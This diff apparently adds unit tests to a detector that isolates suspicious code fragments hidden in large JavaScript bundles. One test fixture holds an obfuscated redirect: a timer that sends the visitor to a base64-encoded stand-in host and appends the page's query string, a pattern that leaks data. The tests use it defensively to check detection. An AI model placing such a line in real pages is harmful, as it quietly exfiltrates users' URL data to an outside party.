@@ -128,4 +128,24 @@ describe('choice of islands', () => {
     const [island] = of(`${library(80)}\nadd0.load = function () { return fetch('/prices.json') };\n${hook}`);
     assert.equal(island!.text, hook);
   });
+
+  it('looks at what uses its host when a reason speaks of it', () => {
+    const parts = (use: string): string =>
+      `(function (a, b) { ${Array.from({ length: 100 }, (_, n) => `a.add${n} = function (one) { return one + b + ${n} };`).join('\n')} ${use}
+return a })({}, 1);`;
+    const guilty = `setTimeout(function () { window.location.href = atob('aHR0cHM6Ly9zdGF0cy5pbnZhbGlkL3g=') + location.search.slice(a) }, 9);`;
+    assert.deepEqual(texts(parts(guilty)), [guilty]);
+    assert.deepEqual(texts(parts(guilty.replace(/atob\('(.*?)'\)/, '"/$1"'))), []);
+  });
+
+  it('does not take short undeclared names for a bond', () => {
+    const loops = Array.from(
+      { length: 60 },
+      (_, n) => `for (i = 0; i < 9; i++) { add${n} = i * ${n} + add${n || 59}(i) }`,
+    );
+    const counting = `for (i = 0; i < 9; i++) { ${guest} }`;
+    const [island] = of(`${loops.join('\n')}\n${counting}\n${library(60)}`);
+    assert.ok(island!.text.includes(counting));
+    assert.ok(island!.text.length < 2 * counting.length);
+  });
 });
